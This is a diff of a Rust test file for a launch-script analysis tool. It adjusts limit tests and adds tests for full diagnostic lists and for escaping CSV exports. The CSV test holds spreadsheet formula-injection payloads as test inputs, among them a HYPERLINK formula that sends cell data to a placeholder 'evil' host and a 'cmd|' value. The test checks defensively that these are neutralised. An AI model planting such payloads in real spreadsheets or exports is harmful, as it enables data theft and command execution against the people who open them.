@@ -4,7 +4,8 @@
 use shardscope::bash::Environment;
 use shardscope::launch::{MAX_DIAGNOSTICS, MAX_TEXTS, Request, Resolution, read, resolve};
 use shardscope::link::{self, Pasted, PastedText, Shared};
-use shardscope::session::{Event, State, apply};
+use shardscope::report::document::{Document, Lists};
+use shardscope::session::{Answer, Event, State, apply};
 use shardscope::source::Source;
 
 use super::bounds::processor_seconds;
@@ -23,7 +24,7 @@ fn quickly<T>(what: &str, call: impl FnOnce() -> T) -> T {
 }
 
 fn pairs(count: usize) -> Vec<(String, String)> {
-    (0..count).map(|index| (format!("setting_{index}"), "1".to_owned())).collect()
+    (0..count).map(|index| (format!("k{index}"), "v".to_owned())).collect()
 }
 
 fn files(count: usize, text: impl Fn(usize) -> (String, String)) -> Vec<PastedText> {
@@ -37,24 +38,24 @@ fn followed(link: &str) -> String {
 }
 
 fn config(index: usize) -> (String, String) {
-    let text =
-        format!("{{\"model_type\":\"llama\",\"hidden_size\":{},\"num_hidden_layers\":2}}", 64 + index % 7);
-    (format!("c{index}.json"), text)
+    let sizes = format!("\"hidden_size\":{},\"num_hidden_layers\":2", 64 + index % 7);
+    (format!("f{index}.json"), format!("{{\"model_type\":\"llama\",{sizes},\"x\":\"{index}\"}}"))
 }
 
 #[test]
 fn links_hold_so_many_files_and_settings() {
     let empty = Pasted::default();
-    let many_files = Pasted { texts: files(20_000, |_| ("a.sh".to_owned(), String::new())), ..empty.clone() };
+    let many_files =
+        Pasted { texts: files(20_000, |_| ("a.sh".to_owned(), "#!/bin/bash\n".to_owned())), ..empty.clone() };
     let many_configs = Pasted { texts: files(9_000, config), ..empty.clone() };
-    let script = files(1, |_| ("a.sh".to_owned(), "torchrun x.py".to_owned()));
-    let many_settings = Pasted { texts: script.clone(), settings: pairs(30_000), ..empty.clone() };
-    let many_answers = Pasted { texts: script, environment: pairs(30_000), ..empty };
+    let script = files(1, |_| (String::new(), "x".to_owned()));
+    let many_settings = Pasted { texts: script.clone(), settings: pairs(60_000), ..empty.clone() };
+    let many_answers = Pasted { texts: script, environment: pairs(60_000), ..empty };
     for (pasted, expected) in [
         (many_files, "20000 files; 256 are read"),
         (many_configs, "9000 files; 256 are read"),
-        (many_settings, "30000 settings; 512 are read"),
-        (many_answers, "30000 answers; 512 are read"),
+        (many_settings, "60000 settings; 512 are read"),
+        (many_answers, "60000 answers; 512 are read"),
     ] {
         let link = link::encode(&Shared::Pasted(pasted));
         let refused = quickly("reading", || link::decode(&link)).expect_err("too many");
@@ -184,6 +185,50 @@ fn files_made_to_take_long_are_answered() {
             "{what}: {}",
             resolution.diagnostics.len()
         );
+    }
+}
+
+/// What is not listed is there for whoever asks: the whole document has each message, in the place of their number.
+#[test]
+fn messages_beyond_the_bound_are_written_on_request() {
+    // Each differs from the one before it.
+    let files: Vec<(String, String)> = (0..MAX_TEXTS).map(config).collect();
+    let source = Source::from_files(files.iter().map(|(name, text)| (name.as_str(), text.as_str())));
+    let resolution = resolved(&source, &[]);
+    let count = resolution.further.len();
+    assert!(count > 0);
+    let said = |lists| -> Vec<String> {
+        let json = Document::with_lists(&source, &resolution, None, lists).to_json(false);
+        let document: serde_json::Value = serde_json::from_str(&json).expect("JSON");
+        let said = document["diagnostics"].as_array().cloned().unwrap_or_default();
+        said.iter().map(|one| one["code"].as_str().unwrap_or_default().to_owned()).collect()
+    };
+    let (short, full) = (said(Lists::Short), said(Lists::Full));
+    let counted = |said: &[String]| said.iter().filter(|code| *code == "and-more").count();
+    assert_eq!((counted(&short), counted(&full)), (1, 0));
+    assert_eq!(full.len(), short.len() - 1 + count);
+    let answer = Answer { source, resolution };
+    assert_eq!(answer.further().lines().count(), count);
+}
+
+/// Cells of a table that a spreadsheet would run, from a script to the file: none begins as a formula does.
+#[test]
+fn what_a_script_names_is_no_formula_in_a_table() {
+    const SCRIPT: &str = "torchrun --nproc_per_node 8 pretrain_gpt.py --num-layers 2 --hidden-size 64 --num-attention-heads 4 \
+        --seq-length 32 --micro-batch-size 1 --bf16 --max-position-embeddings 32 \
+        --tokenizer-model '=HYPERLINK(\"http://evil/?x=\"&A1)' --vocab-file '@SUM(1)' --tokenizer-type '-2+3+cmd|x'";
+    let resolution = resolved(&Source::from_files([("csv.sh", SCRIPT)]), &[]);
+    let table = shardscope::report::settings_csv(&resolution.settings);
+    for value in ["=HYPERLINK(", "@SUM(1)", "-2+3+cmd|x"] {
+        assert!(table.contains(&format!("'{value}")), "{value}: {table}");
+    }
+    // At the beginning of a line, or behind a comma or the quote of a cell.
+    let begins = |at: usize| at == 0 || table[..at].ends_with([',', '\n', '"']);
+    for (at, letter) in table.char_indices().filter(|(at, _)| begins(*at)) {
+        let cell = table[at..].split([',', '"', '\r']).next().unwrap_or_default();
+        let formula = "=+-@".contains(letter) && cell.parse::<f64>().is_err();
+        // The quotes inside a cell are doubled: what follows them begins no cell.
+        assert!(!formula || table[..at].ends_with("\"\""), "{cell}: {table}");
     }
 }
 
